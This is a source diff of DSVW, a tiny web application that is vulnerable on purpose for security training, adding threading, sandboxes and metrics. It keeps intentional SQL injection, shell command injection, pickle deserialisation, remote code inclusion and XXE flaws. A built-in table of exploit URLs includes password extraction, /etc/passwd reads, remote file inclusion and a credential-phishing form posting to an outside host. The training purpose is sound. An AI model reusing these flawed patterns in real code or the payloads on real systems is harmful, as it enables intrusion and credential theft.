@@ -1,5 +1,5 @@
 #!/usr/bin/env python
-import html, http.client, http.server, io, json, os, pickle, random, re, socket, socketserver, sqlite3, string, sys, subprocess, time, traceback, urllib.parse, urllib.request, xml.etree.ElementTree  # Python 3 required
+import argparse, asyncio, bisect, collections, concurrent.futures, email.utils, errno, hashlib, html, http.client, http.server, io, itertools, json, os, pickle, queue, random, re, secrets, selectors, signal, socket, sqlite3, string, sys, subprocess, threading, time, traceback, urllib.parse, urllib.request, xml.etree.ElementTree  # Python 3 required
 try:
     import lxml.etree
 except ImportError:
@@ -17,92 +17,524 @@ mysql_password = "hunter2"
 
 NAME, VERSION, GITHUB, AUTHOR, LICENSE = "Damn Small Vulnerable Web (DSVW) < 100 LoC (Lines of Code)", "0.2b", "https://github.com/stamparm/DSVW", "Miroslav Stampar (@stamparm)", "Unlicense (public domain)"
 LISTEN_ADDRESS, LISTEN_PORT = "127.0.0.1", 65412
+KEEP_ALIVE, KEEP_ALIVE_TIMEOUT, KEEP_ALIVE_MAX_REQUESTS = False, 5, 100
+THREADS, QUEUE_SIZE, REQUEST_TIMEOUT = 32, 256, 10
+PROCESSES, DATABASE = 1, ":memory:"
+SANDBOX_MAX, SANDBOX_MEMORY = 0, 256 * 1024 * 1024
+ROUTES, BRANCHES, NONBLOCKING = ("/", "/users.json", "/login", "/stats", "/metrics", "/reset"), ("id", "v", "object", "path", "domain", "xml", "name", "size", "comment", "include", "redir"), ("index", "v", "name", "redir", "/users.json", "/stats", "404")
 HTML_PREFIX, HTML_POSTFIX = "<!DOCTYPE html>\n<html>\n<head>\n<style>a {font-weight: bold; text-decoration: none; visited: blue; color: blue;} ul {display: inline-block;} .disabled {text-decoration: line-through; color: gray} .disabled a {visited: gray; color: gray; pointer-events: none; cursor: default} table {border-collapse: collapse; margin: 12px; border: 2px solid black} th, td {border: 1px solid black; padding: 3px} span {font-size: larger; font-weight: bold}</style>\n<title>%s</title>\n</head>\n<body style='font: 12px monospace'>\n<script>function process(data) {alert(\"Surname(s) from JSON results: \" + Object.keys(data).map(function(k) {return data[k]}));}; var index=document.location.hash.indexOf('lang='); if (index != -1) document.write('<div style=\"position: absolute; top: 5px; right: 5px;\">Chosen language: <b>' + decodeURIComponent(document.location.hash.substring(index + 5)) + '</b></div>');</script>\n" % html.escape(NAME), "<div style=\"position: fixed; bottom: 5px; text-align: center; width: 100%%;\">Powered by <a href=\"%s\" style=\"font-weight: bold; text-decoration: none; visited: blue; color: blue\" target=\"_blank\">%s</a> (v<b>%s</b>)</div>\n</body>\n</html>" % (GITHUB, re.search(r"\(([^)]+)", NAME).group(1), VERSION)
 USERS_XML = """<?xml version="1.0" encoding="utf-8"?><users><user id="0"><username>admin</username><name>admin</name><surname>admin</surname><password>7en8aiDoh!</password></user><user id="1"><username>dricci</username><name>dian</name><surname>ricci</surname><password>12345</password></user><user id="2"><username>amason</username><name>anthony</name><surname>mason</surname><password>gandalf</password></user><user id="3"><username>svargas</username><name>sandra</name><surname>vargas</surname><password>phest1945</password></user></users>"""
 CASES = (("Blind SQL Injection (<i>boolean</i>)", "?id=2", "/?id=2%20AND%20SUBSTR((SELECT%20password%20FROM%20users%20WHERE%20name%3D%27admin%27)%2C1%2C1)%3D%277%27\" onclick=\"alert('checking if the first character for admin\\'s password is digit \\'7\\' (true in case of same result(s) as for \\'vulnerable\\')')", "https://owasp.org/www-project-web-security-testing-guide/latest/4-Web_Application_Security_Testing/07-Input_Validation_Testing/05-Testing_for_SQL_Injection#boolean-exploitation-technique"), ("Blind SQL Injection (<i>time</i>)", "?id=2", "/?id=(SELECT%20(CASE%20WHEN%20(SUBSTR((SELECT%20password%20FROM%20users%20WHERE%20name%3D%27admin%27)%2C2%2C1)%3D%27e%27)%20THEN%20(LIKE(%27ABCDEFG%27%2CUPPER(HEX(RANDOMBLOB(300000000)))))%20ELSE%200%20END))\" onclick=\"alert('checking if the second character for admin\\'s password is letter \\'e\\' (true in case of delayed response)')", "https://owasp.org/www-project-web-security-testing-guide/latest/4-Web_Application_Security_Testing/07-Input_Validation_Testing/05-Testing_for_SQL_Injection#time-delay-exploitation-technique"), ("UNION SQL Injection", "?id=2", "/?id=2%20UNION%20ALL%20SELECT%20NULL%2C%20NULL%2C%20NULL%2C%20(SELECT%20id%7C%7C%27%2C%27%7C%7Cusername%7C%7C%27%2C%27%7C%7Cpassword%20FROM%20users%20WHERE%20username%3D%27admin%27)", "https://owasp.org/www-project-web-security-testing-guide/latest/4-Web_Application_Security_Testing/07-Input_Validation_Testing/05-Testing_for_SQL_Injection#union-exploitation-technique"), ("Login Bypass", "/login?username=&amp;password=", "/login?username=admin&amp;password=%27%20OR%20%271%27%20LIKE%20%271", "https://owasp.org/www-project-web-security-testing-guide/latest/4-Web_Application_Security_Testing/07-Input_Validation_Testing/05-Testing_for_SQL_Injection#classic-sql-injection"), ("HTTP Parameter Pollution", "/login?username=&amp;password=", "/login?username=admin&amp;password=%27%2F*&amp;password=*%2FOR%2F*&amp;password=*%2F%271%27%2F*&amp;password=*%2FLIKE%2F*&amp;password=*%2F%271", "https://owasp.org/www-project-web-security-testing-guide/latest/4-Web_Application_Security_Testing/07-Input_Validation_Testing/04-Testing_for_HTTP_Parameter_Pollution"), ("Cross Site Scripting (<i>reflected</i>)", "/?v=0.2", "/?v=0.2%3Cscript%3Ealert(%22arbitrary%20javascript%22)%3C%2Fscript%3E", "https://owasp.org/www-project-web-security-testing-guide/latest/4-Web_Application_Security_Testing/07-Input_Validation_Testing/01-Testing_for_Reflected_Cross_Site_Scripting"), ("Cross Site Scripting (<i>stored</i>)", "/?comment=\" onclick=\"document.location='/?comment='+prompt('please leave a comment'); return false", "/?comment=%3Cscript%3Ealert(%22arbitrary%20javascript%22)%3C%2Fscript%3E", "https://owasp.org/www-project-web-security-testing-guide/latest/4-Web_Application_Security_Testing/07-Input_Validation_Testing/02-Testing_for_Stored_Cross_Site_Scripting"), ("Cross Site Scripting (<i>DOM</i>)", "/?#lang=en", "/?foobar#lang=en%3Cscript%3Ealert(%22arbitrary%20javascript%22)%3C%2Fscript%3E", "https://owasp.org/www-project-web-security-testing-guide/latest/4-Web_Application_Security_Testing/11-Client-side_Testing/01-Testing_for_DOM-based_Cross_Site_Scripting"), ("Cross Site Scripting (<i>JSONP</i>)", "/users.json?callback=process\" onclick=\"var script=document.createElement('script');script.src='/users.json?callback=process';document.getElementsByTagName('head')[0].appendChild(script);return false", "/users.json?callback=alert(%22arbitrary%20javascript%22)%3Bprocess\" onclick=\"var script=document.createElement('script');script.src='/users.json?callback=alert(%22arbitrary%20javascript%22)%3Bprocess';document.getElementsByTagName('head')[0].appendChild(script);return false", "http://www.metaltoad.com/blog/using-jsonp-safely"), ("XML External Entity (<i>local</i>)", "/?xml=%3Croot%3E%3C%2Froot%3E", "/?xml=%3C!DOCTYPE%20example%20%5B%3C!ENTITY%20xxe%20SYSTEM%20%22file%3A%2F%2F%2Fetc%2Fpasswd%22%3E%5D%3E%3Croot%3E%26xxe%3B%3C%2Froot%3E" if os.name != "nt" else "/?xml=%3C!DOCTYPE%20example%20%5B%3C!ENTITY%20xxe%20SYSTEM%20%22file%3A%2F%2FC%3A%2FWindows%2Fwin.ini%22%3E%5D%3E%3Croot%3E%26xxe%3B%3C%2Froot%3E", "https://owasp.org/www-project-web-security-testing-guide/latest/4-Web_Application_Security_Testing/07-Input_Validation_Testing/07-Testing_for_XML_Injection"), ("XML External Entity (<i>remote</i>)", "/?xml=%3Croot%3E%3C%2Froot%3E", "/?xml=%3C!DOCTYPE%20example%20%5B%3C!ENTITY%20xxe%20SYSTEM%20%22http%3A%2F%2Fpastebin.com%2Fraw.php%3Fi%3Dh1rvVnvx%22%3E%5D%3E%3Croot%3E%26xxe%3B%3C%2Froot%3E", "https://owasp.org/www-project-web-security-testing-guide/latest/4-Web_Application_Security_Testing/07-Input_Validation_Testing/07-Testing_for_XML_Injection"), ("Server Side Request Forgery", "/?path=", "/?path=http%3A%2F%2F127.0.0.1%3A631" if os.name != "nt" else "/?path=%5C%5C127.0.0.1%5CC%24%5CWindows%5Cwin.ini", "http://www.bishopfox.com/blog/2015/04/vulnerable-by-design-understanding-server-side-request-forgery/"), ("Blind XPath Injection (<i>boolean</i>)", "/?name=dian", "/?name=admin%27%20and%20substring(password%2Ftext()%2C3%2C1)%3D%27n\" onclick=\"alert('checking if the third character for admin\\'s password is letter \\'n\\' (true in case of found item)')", "https://owasp.org/www-community/attacks/XPATH_Injection"), ("Cross Site Request Forgery", "/?comment=", "/?v=%3Cimg%20src%3D%22%2F%3Fcomment%3D%253Cdiv%2520style%253D%2522color%253Ared%253B%2520font-weight%253A%2520bold%2522%253EI%2520quit%2520the%2520job%253C%252Fdiv%253E%22%3E\" onclick=\"alert('please visit \\'vulnerable\\' page to see what this click has caused')", "https://owasp.org/www-project-web-security-testing-guide/latest/4-Web_Application_Security_Testing/06-Session_Management_Testing/05-Testing_for_Cross_Site_Request_Forgery"), ("Frame Injection (<i>phishing</i>)", "/?v=0.2", "/?v=0.2%3Ciframe%20src%3D%22http%3A%2F%2Fdsvw.c1.biz%2Fi%2Flogin.html%22%20style%3D%22background-color%3Awhite%3Bz-index%3A10%3Btop%3A10%25%3Bleft%3A10%25%3Bposition%3Afixed%3Bborder-collapse%3Acollapse%3Bborder%3A1px%20solid%20%23a8a8a8%22%3E%3C%2Fiframe%3E", "http://www.gnucitizen.org/blog/frame-injection-fun/"), ("Frame Injection (<i>content spoofing</i>)", "/?v=0.2", "/?v=0.2%3Ciframe%20src%3D%22http%3A%2F%2Fdsvw.c1.biz%2F%22%20style%3D%22background-color%3Awhite%3Bwidth%3A100%25%3Bheight%3A100%25%3Bz-index%3A10%3Btop%3A0%3Bleft%3A0%3Bposition%3Afixed%3B%22%20frameborder%3D%220%22%3E%3C%2Fiframe%3E", "http://www.gnucitizen.org/blog/frame-injection-fun/"), ("Clickjacking", None, "/?v=0.2%3Cdiv%20style%3D%22opacity%3A0%3Bfilter%3Aalpha(opacity%3D20)%3Bbackground-color%3A%23000%3Bwidth%3A100%25%3Bheight%3A100%25%3Bz-index%3A10%3Btop%3A0%3Bleft%3A0%3Bposition%3Afixed%3B%22%20onclick%3D%22document.location%3D%27http%3A%2F%2Fdsvw.c1.biz%2F%27%22%3E%3C%2Fdiv%3E%3Cscript%3Ealert(%22click%20anywhere%20on%20page%22)%3B%3C%2Fscript%3E", "https://owasp.org/www-project-web-security-testing-guide/latest/4-Web_Application_Security_Testing/11-Client-side_Testing/09-Testing_for_Clickjacking"), ("Unvalidated Redirect", "/?redir=", "/?redir=http%3A%2F%2Fdsvw.c1.biz", "https://cheatsheetseries.owasp.org/cheatsheets/Unvalidated_Redirects_and_Forwards_Cheat_Sheet.html"), ("Arbitrary Code Execution", "/?domain=www.google.com", "/?domain=www.google.com%3B%20ifconfig" if os.name != "nt" else "/?domain=www.google.com%26%20ipconfig", "https://en.wikipedia.org/wiki/Arbitrary_code_execution"), ("Full Path Disclosure", "/?path=", "/?path=foobar", "https://owasp.org/www-community/attacks/Full_Path_Disclosure"), ("Source Code Disclosure", "/?path=", "/?path=dsvw.py", "https://www.imperva.com/resources/glossary?term=source_code_disclosure"), ("Path Traversal", "/?path=", "/?path=..%2F..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd" if os.name != "nt" else "/?path=..%5C..%5C..%5C..%5C..%5C..%5CWindows%5Cwin.ini", "https://www.owasp.org/index.php/Path_Traversal"), ("File Inclusion (<i>remote</i>)", "/?include=", "/?include=http%%3A%%2F%%2Fpastebin.com%%2Fraw.php%%3Fi%%3D6VyyNNhc&amp;cmd=%s" % ("ifconfig" if os.name != "nt" else "ipconfig"), "https://owasp.org/www-project-web-security-testing-guide/latest/4-Web_Application_Security_Testing/07-Input_Validation_Testing/11.2-Testing_for_Remote_File_Inclusion"), ("HTTP Header Injection (<i>phishing</i>)", "/?charset=utf8", "/?charset=utf8%0D%0AX-XSS-Protection:0%0D%0AContent-Length:388%0D%0A%0D%0A%3C!DOCTYPE%20html%3E%3Chtml%3E%3Chead%3E%3Ctitle%3ELogin%3C%2Ftitle%3E%3C%2Fhead%3E%3Cbody%20style%3D%27font%3A%2012px%20monospace%27%3E%3Cform%20action%3D%22http%3A%2F%2Fdsvw.c1.biz%2Fi%2Flog.php%22%20onSubmit%3D%22alert(%27visit%20%5C%27http%3A%2F%2Fdsvw.c1.biz%2Fi%2Flog.txt%5C%27%20to%20see%20your%20phished%20credentials%27)%22%3EUsername%3A%3Cbr%3E%3Cinput%20type%3D%22text%22%20name%3D%22username%22%3E%3Cbr%3EPassword%3A%3Cbr%3E%3Cinput%20type%3D%22password%22%20name%3D%22password%22%3E%3Cinput%20type%3D%22submit%22%20value%3D%22Login%22%3E%3C%2Fform%3E%3C%2Fbody%3E%3C%2Fhtml%3E", "https://www.rapid7.com/db/vulnerabilities/http-generic-script-header-injection"), ("Component with Known Vulnerability (<i>pickle</i>)", "/?object=%s" % urllib.parse.quote(pickle.dumps(dict((_.findtext("username"), (_.findtext("name"), _.findtext("surname"))) for _ in xml.etree.ElementTree.fromstring(USERS_XML).findall("user")))), "/?object=cos%%0Asystem%%0A(S%%27%s%%27%%0AtR.%%0A\" onclick=\"alert('checking if arbitrary code can be executed remotely (true in case of delayed response)')" % urllib.parse.quote("ping -c 5 127.0.0.1" if os.name != "nt" else "ping -n 5 127.0.0.1"), "https://www.cs.uic.edu/~s/musings/pickle.html"), ("Denial of Service (<i>memory</i>)", "/?size=32", "/?size=9999999", "https://owasp.org/www-community/attacks/Denial_of_Service"))
 
+USERS = tuple((_.findtext("username"), _.findtext("name"), _.findtext("surname"), _.findtext("password")) for _ in xml.etree.ElementTree.fromstring(USERS_XML).findall("user"))
+USERS_JSON, ATTACKS_HTML = json.dumps(dict((_[0], _[2]) for _ in USERS)), "<div><span>Attacks:</span></div>\n<ul>%s\n</ul>\n" % ("".join("\n<li%s>%s - <a href=\"%s\">vulnerable</a>|<a href=\"%s\">exploit</a>|<a href=\"%s\" target=\"_blank\">info</a></li>" % (" class=\"disabled\" title=\"module 'python-lxml' not installed\"" if ("lxml.etree" not in sys.modules and any(_ in case[0].upper() for _ in ("XML", "XPATH"))) else "", case[0], case[1], case[2], case[3]) for case in CASES)).replace("<a href=\"None\">vulnerable</a>|", "<b>-</b>|")
+INDEX_HTML = HTML_PREFIX + ATTACKS_HTML + HTML_POSTFIX
+INDEX_BODY = INDEX_HTML.encode()
+SANDBOXES, SANDBOXES_LOCK, SANDBOX_REGEX = collections.OrderedDict(), threading.Lock(), re.compile(r"(?:\A|;)\s*SANDBOXID=([0-9a-f]{32})\s*(?:;|\Z)")
+PARAMETER_REGEX, COMMENTS_REGEX, COMMENTS_PAGE_SIZE = re.compile(r"[\w\[\]]+"), re.compile(r"(?:\A|[?&])comment=(?:&|\Z)"), 500
+LATENCY_BUCKETS, METRICS, METRICS_LOCK = (0.001, 0.0025, 0.005, 0.01, 0.025, 0.05, 0.1, 0.25, 0.5, 1, 2.5, 5, 10), [], threading.Lock()
+INDEX_ETAG, XPATH_CACHE_SIZE = '"%s"' % hashlib.md5(INDEX_BODY).hexdigest(), 1024
+local = threading.local()
+
 def init():
-    global connection
+    global connection, template, template_size
     http.server.HTTPServer.allow_reuse_address = True
-    connection = sqlite3.connect(":memory:", isolation_level=None, check_same_thread=False)
+    connection = sqlite3.connect(DATABASE, isolation_level=None, check_same_thread=False)
     cursor = connection.cursor()
-    cursor.execute("CREATE TABLE users(id INTEGER PRIMARY KEY AUTOINCREMENT, username TEXT, name TEXT, surname TEXT, password TEXT)")
-    cursor.executemany("INSERT INTO users(id, username, name, surname, password) VALUES(NULL, ?, ?, ?, ?)", ((_.findtext("username"), _.findtext("name"), _.findtext("surname"), _.findtext("password")) for _ in xml.etree.ElementTree.fromstring(USERS_XML).findall("user")))
-    cursor.execute("CREATE TABLE comments(id INTEGER PRIMARY KEY AUTOINCREMENT, comment TEXT, time TEXT)")
+    if DATABASE != ":memory:":
+        cursor.execute("PRAGMA journal_mode=WAL")
+    cursor.execute("CREATE TABLE IF NOT EXISTS users(id INTEGER PRIMARY KEY AUTOINCREMENT, username TEXT, name TEXT, surname TEXT, password TEXT)")
+    if not cursor.execute("SELECT COUNT(*) FROM users").fetchone()[0]:
+        cursor.executemany("INSERT INTO users(id, username, name, surname, password) VALUES(NULL, ?, ?, ?, ?)", USERS)
+    cursor.execute("CREATE TABLE IF NOT EXISTS comments(id INTEGER PRIMARY KEY AUTOINCREMENT, comment TEXT, time TEXT)")
+    if SANDBOX_MAX:
+        template = sqlite3.connect(":memory:", isolation_level=None, check_same_thread=False)
+        connection.backup(template)
+        template_size = size(template)
+
+def size(connection):
+    return connection.execute("PRAGMA page_count").fetchone()[0] * connection.execute("PRAGMA page_size").fetchone()[0]
+
+def sandbox(session, reset=False):  # per-session in-memory clone of the seeded template, evicted least recently used first
+    with SANDBOXES_LOCK:
+        if reset or session not in SANDBOXES:
+            SANDBOXES[session] = [sqlite3.connect(":memory:", isolation_level=None, check_same_thread=False), template_size]
+            template.backup(SANDBOXES[session][0])
+        SANDBOXES.move_to_end(session)
+        while len(SANDBOXES) > 1 and (len(SANDBOXES) > SANDBOX_MAX or sum(_[1] for _ in SANDBOXES.values()) > SANDBOX_MEMORY):
+            SANDBOXES.popitem(last=False)
+        return SANDBOXES[session]
+
+def resize(session, connection):
+    current = size(connection)
+    with SANDBOXES_LOCK:
+        if SANDBOXES.get(session, (None,))[0] is connection:  # skip if evicted (or recreated) meanwhile
+            SANDBOXES[session][1] = current
+
+def database(session=None):  # file-backed (shared) store gets one connection per thread
+    if session:
+        return sandbox(session)[0]
+    if DATABASE == ":memory:":
+        return connection
+    if not hasattr(local, "connection"):
+        local.connection = sqlite3.connect(DATABASE, isolation_level=None, check_same_thread=False, timeout=30)
+    return local.connection
+
+def parse(target):
+    path, query = target.split('?', 1) if '?' in target else (target, "")
+    if '?' not in query and '[' not in query and ']' not in query:  # fast path (the usual case): each '&'-separated segment holds at most one parameter
+        params = {}
+        for name, _, value in (_.partition('=') for _ in query.split('&')):
+            if value and PARAMETER_REGEX.fullmatch(name):
+                if name in params:  # polluted (repeated) parameters get joined below
+                    break
+                params[name] = urllib.parse.unquote(value)
+        else:
+            return path, query, params
+    names, values = {}, {}
+    for segment in query.split('&'):  # a parameter starts at the beginning of a segment (or right after any '?' in it) and its value runs up to the next '&'
+        seen, start = set(), 0
+        while start >= 0:
+            match = PARAMETER_REGEX.match(segment, start)
+            if match and segment.startswith('=', match.end()) and len(segment) > match.end() + 1 and match.group() not in seen:
+                if not seen:
+                    names.setdefault(match.group())
+                seen.add(match.group())
+                values.setdefault(match.group(), []).append(segment[match.end() + 1:])
+            start = segment.find('?', start) + 1 or -1
+    return path, query, dict((name, urllib.parse.unquote(','.join(re.findall(r"(?:\A|[?&])%s=([^&]+)" % name, query) if '[' in name or ']' in name else values[name]))) for name in names)  # bracketed names keep the original (regex-built) lookup
+
+def branch(path, query, params):
+    if path != '/':
+        return path if path in ROUTES else "404"
+    return next((_ for _ in BRANCHES if _ in params), "comment" if COMMENTS_REGEX.search(query) else "index")  # dispatch() follows this same label
+
+def count(key, value=1):  # counters are per thread (no locking on the hot path) and get summed up on scrape
+    try:
+        counters = local.counters
+    except AttributeError:
+        counters = local.counters = {}
+        with METRICS_LOCK:
+            METRICS.append(counters)
+    counters[key] = counters.get(key, 0) + value
+
+def observe(branch, code, duration, size):
+    count(("requests", branch, code))
+    count(("duration", branch, bisect.bisect_left(LATENCY_BUCKETS, duration)))
+    count(("duration_sum", branch), duration)
+    count(("bytes", branch), size)
+
+def timed(kind, function, *args, **kwargs):
+    start = time.perf_counter()
+    try:
+        return function(*args, **kwargs)
+    finally:
+        count((kind, getattr(local, "branch", "")), time.perf_counter() - start)
+        count((kind + "_count", getattr(local, "branch", "")))
+
+def exposition(server):
+    totals, lines = {}, []
+    with METRICS_LOCK:
+        registry = list(METRICS)
+    for counters in registry:
+        for key, value in counters.copy().items():
+            totals[key] = totals.get(key, 0) + value
+    for name, kind, description in (("dsvw_requests_total", "counter", "Requests served by route/branch and status code"), ("dsvw_request_duration_seconds", "histogram", "Request latency by route/branch"), ("dsvw_response_bytes_total", "counter", "Response body bytes by route/branch"), ("dsvw_sqlite_execute_seconds_total", "counter", "Time spent in SQLite execute() by route/branch"), ("dsvw_sqlite_executes_total", "counter", "SQLite execute() calls by route/branch"), ("dsvw_subprocess_seconds_total", "counter", "Time spent in subprocesses by route/branch"), ("dsvw_subprocesses_total", "counter", "Subprocesses spawned by route/branch")):
+        lines += ["# HELP %s %s" % (name, description), "# TYPE %s %s" % (name, kind)]
+        if kind == "histogram":
+            for branch in sorted(set(_[1] for _ in totals if _[0] == "duration_sum")):
+                buckets = [totals.get(("duration", branch, i), 0) for i in range(len(LATENCY_BUCKETS) + 1)]
+                lines += ["%s_bucket{branch=\"%s\",le=\"%s\"} %d" % (name, branch, le, sum(buckets[:i + 1])) for i, le in enumerate(LATENCY_BUCKETS + ("+Inf",))]
+                lines += ["%s_sum{branch=\"%s\"} %.6f" % (name, branch, totals[("duration_sum", branch)]), "%s_count{branch=\"%s\"} %d" % (name, branch, sum(buckets))]
+        else:
+            source = {"dsvw_requests_total": "requests", "dsvw_response_bytes_total": "bytes", "dsvw_sqlite_execute_seconds_total": "sqlite", "dsvw_sqlite_executes_total": "sqlite_count", "dsvw_subprocess_seconds_total": "subprocess", "dsvw_subprocesses_total": "subprocess_count"}[name]
+            lines += ["%s{branch=\"%s\"%s} %s" % (name, key[1], ",code=\"%d\"" % key[2] if len(key) > 2 else "", ("%.6f" if isinstance(value, float) else "%d") % value) for key, value in sorted(totals.items(), key=str) if key[0] == source]
+    with SANDBOXES_LOCK:
+        sandboxes = [_[1] for _ in SANDBOXES.values()]
+    for name, value in [("threads_active", threading.active_count()), ("comments_rows", database().execute("SELECT COUNT(*) FROM comments").fetchone()[0]), ("sandboxes", len(sandboxes)), ("sandboxes_bytes", sum(sandboxes))] + sorted(("server_%s" % key, value) for key, value in server.stats().items()):
+        lines += ["# TYPE dsvw_%s gauge" % name, "dsvw_%s %d" % (name, value)]
+    return "\n".join(lines) + "\n"
+
+class TimedCursor(sqlite3.Cursor):
+    def execute(self, *args):
+        return timed("sqlite", sqlite3.Cursor.execute, self, *args)
+
+def users_xpath(expression):  # parsed USERS_XML and compiled expressions are kept per thread (lxml documents are not shared between threads)
+    if not hasattr(local, "users"):
+        local.users, local.xpaths = lxml.etree.parse(io.BytesIO(USERS_XML.encode())), {}
+    if expression not in local.xpaths:
+        if len(local.xpaths) >= XPATH_CACHE_SIZE:
+            local.xpaths.clear()
+        local.xpaths[expression] = lxml.etree.XPath(expression)
+    return local.xpaths[expression](local.users)
+
+def dispatch(path, query, params, headers, client_address, server):
+    match, local.branch = SANDBOX_REGEX.search(headers.get("Cookie") or "") if SANDBOX_MAX else None, branch(path, query, params)
+    session, extra = match.group(1) if match else None, [("Set-Cookie", "SANDBOXID=%s; path=/; HttpOnly" % secrets.token_hex(16))] if SANDBOX_MAX and not match else []  # requests without a sandbox cookie keep using the shared store
+    code, content = http.client.OK, HTML_PREFIX
+    try:
+        if path == '/':
+            if local.branch == "id":
+                cursor = database(session).cursor(TimedCursor)
+                cursor.execute("SELECT id, username, name, surname FROM users WHERE id=" + params["id"])
+                content += "<div><span>Result(s):</span></div><table><thead><th>id</th><th>username</th><th>name</th><th>surname</th></thead>%s</table>%s" % ("".join("<tr>%s</tr>" % "".join("<td>%s</td>" % ("-" if _ is None else _) for _ in row) for row in cursor.fetchall()), HTML_POSTFIX)
+            elif local.branch == "v":
+                content += re.sub(r"(v<b>)[^<]+(</b>)", r"\g<1>%s\g<2>" % params["v"], HTML_POSTFIX)
+            elif local.branch == "object":
+                content = str(pickle.loads(params["object"].encode()))
+            elif local.branch == "path":
+                content = (open(os.path.abspath(params["path"]), "rb") if not "://" in params["path"] else urllib.request.urlopen(params["path"])).read().decode()
+            elif local.branch == "domain":
+                content = timed("subprocess", subprocess.check_output, "nslookup " + params["domain"], shell=True, stderr=subprocess.STDOUT, stdin=subprocess.PIPE).decode()
+            elif local.branch == "xml":
+                content = lxml.etree.tostring(lxml.etree.parse(io.BytesIO(params["xml"].encode()), lxml.etree.XMLParser(no_network=False)), pretty_print=True).decode()
+            elif local.branch == "name":
+                found = users_xpath(".//user[name/text()='%s']" % params["name"])
+                content += "<b>Surname:</b> %s%s" % (found[-1].find("surname").text if found else "-", HTML_POSTFIX)
+            elif local.branch == "size":
+                start, _ = time.time(), "<br>".join("#" * int(params["size"]) for _ in range(int(params["size"])))
+                content += "<b>Time required</b> (to 'resize image' to %dx%d): %.6f seconds%s" % (int(params["size"]), int(params["size"]), time.time() - start, HTML_POSTFIX)
+            elif local.branch == "comment":
+                cursor = database(session).cursor(TimedCursor)
+                if "comment" in params:
+                    cursor.execute("INSERT INTO comments VALUES(NULL, '%s', '%s')" % (params["comment"], time.ctime()))
+                    if session:
+                        resize(session, cursor.connection)
+                    content += "Thank you for leaving the comment. Please click here <a href=\"/?comment=\">here</a> to see all comments%s" % HTML_POSTFIX
+                else:
+                    limit = int(params.get("limit", -1))
+                    cursor.execute("SELECT id, comment, time FROM comments WHERE id > ? ORDER BY id LIMIT ?", (int(params.get("after_id", 0)), limit))
+                    header, render = "<div><span>Comment(s):</span></div><table><thead><th>id</th><th>comment</th><th>time</th></thead>", lambda rows: "".join("<tr>%s</tr>" % "".join("<td>%s</td>" % ("-" if _ is None else _) for _ in row) for row in rows)
+                    if "stream" in params:
+                        content = itertools.chain((content + header,), map(render, iter(lambda: cursor.fetchmany(COMMENTS_PAGE_SIZE), [])), ("</table>%s" % HTML_POSTFIX,))
+                    else:
+                        rows = cursor.fetchall()
+                        content += "%s%s</table>%s%s" % (header, render(rows), "<a href=\"/?comment=&amp;after_id=%d&amp;limit=%d\">next</a>" % (rows[-1][0], limit) if rows and len(rows) == limit else "", HTML_POSTFIX)
+            elif local.branch == "include":
+                backup, sys.stdout, program, envs = sys.stdout, io.StringIO(), (open(params["include"], "rb") if not "://" in params["include"] else urllib.request.urlopen(params["include"])).read(), {"DOCUMENT_ROOT": os.getcwd(), "HTTP_USER_AGENT": headers.get("User-Agent"), "REMOTE_ADDR": client_address[0], "REMOTE_PORT": client_address[1], "PATH": path, "QUERY_STRING": query}
+                exec(program, envs)
+                content += sys.stdout.getvalue()
+                sys.stdout = backup
+            elif local.branch == "redir":
+                content = content.replace("<head>", "<head><meta http-equiv=\"refresh\" content=\"0; url=%s\"/>" % params["redir"])
+            if content == HTML_PREFIX:
+                code, content = http.client.NOT_MODIFIED if headers.get("If-None-Match") == INDEX_ETAG else code, INDEX_HTML
+            elif isinstance(content, str) and HTML_PREFIX in content and HTML_POSTFIX not in content:
+                content += ATTACKS_HTML
+        elif path == "/users.json":
+            content = "%s%s%s" % ("" if not "callback" in params else "%s(" % params["callback"], USERS_JSON, "" if not "callback" in params else ")")
+        elif path == "/stats":
+            content = json.dumps(server.stats())
+        elif path == "/metrics":
+            content = exposition(server)
+        elif path == "/reset" and SANDBOX_MAX:
+            if session:
+                sandbox(session, reset=True)
+            content += "%s<meta http-equiv=\"refresh\" content=\"1; url=/\"/>" % ("Your sandbox has been restored to its initial state" if session else "You don't have a sandbox yet (it gets created on your next visit)")
+        elif path == "/login":
+            cursor = database(session).cursor(TimedCursor)
+            cursor.execute("SELECT * FROM users WHERE username='" + re.sub(r"[^\w]", "", params.get("username", "")) + "' AND password='" + params.get("password", "") + "'")
+            content += "Welcome <b>%s</b><meta http-equiv=\"Set-Cookie\" content=\"SESSIONID=%s; path=/\"><meta http-equiv=\"refresh\" content=\"1; url=/\"/>" % (re.sub(r"[^\w]", "", params.get("username", "")), "".join(random.sample(string.ascii_letters + string.digits, 20))) if cursor.fetchall() else "The username and/or password is incorrect<meta http-equiv=\"Set-Cookie\" content=\"SESSIONID=; path=/; expires=Thu, 01 Jan 1970 00:00:00 GMT\">"
+        else:
+            code = http.client.NOT_FOUND
+    except Exception as ex:
+        content = ex.output.decode(errors="replace") if isinstance(ex, subprocess.CalledProcessError) else traceback.format_exc()
+        code = http.client.INTERNAL_SERVER_ERROR
+    return code, content, extra
+
+def respond(code, content, params, extra=()):
+    if not isinstance(content, str):  # streamed (iterable) content, sent without Content-Length
+        return any(_ in params.get("charset", "utf8") for _ in "\r\n"), list(extra) + [("X-XSS-Protection", "0"), ("Content-Type", "text/html; charset=%s" % params.get("charset", "utf8"))], (_.encode() for _ in content)
+    charset, index = params.get("charset", "utf8"), content == INDEX_HTML
+    content_type, content = "text/html" if content.startswith("<!DOCTYPE html>") else "text/plain", (b"" if code == http.client.NOT_MODIFIED else INDEX_BODY) if index else ("%s%s" % (content, HTML_POSTFIX if HTML_PREFIX in content and GITHUB not in content else "")).encode()
+    injected = any(_ in charset for _ in "\r\n")  # (intentional) header injection keeps the original close-delimited response
+    return injected, list(extra) + ([("ETag", INDEX_ETAG)] if index else []) + [("X-XSS-Protection", "0"), ("Content-Type", "%s%s" % (content_type, "; charset=%s" % charset))] + ([] if injected or code == http.client.NOT_MODIFIED else [("Content-Length", str(len(content)))]), content
 
 class ReqHandler(http.server.BaseHTTPRequestHandler):
-    def do_GET(self):
-        path, query = self.path.split('?', 1) if '?' in self.path else (self.path, "")
-        code, content, params, cursor = http.client.OK, HTML_PREFIX, dict((match.group("parameter"), urllib.parse.unquote(','.join(re.findall(r"(?:\A|[?&])%s=([^&]+)" % match.group("parameter"), query)))) for match in re.finditer(r"((\A|[?&])(?P<parameter>[\w\[\]]+)=)([^&]+)", query)), connection.cursor()
+    requests, timeout = 0, REQUEST_TIMEOUT
+
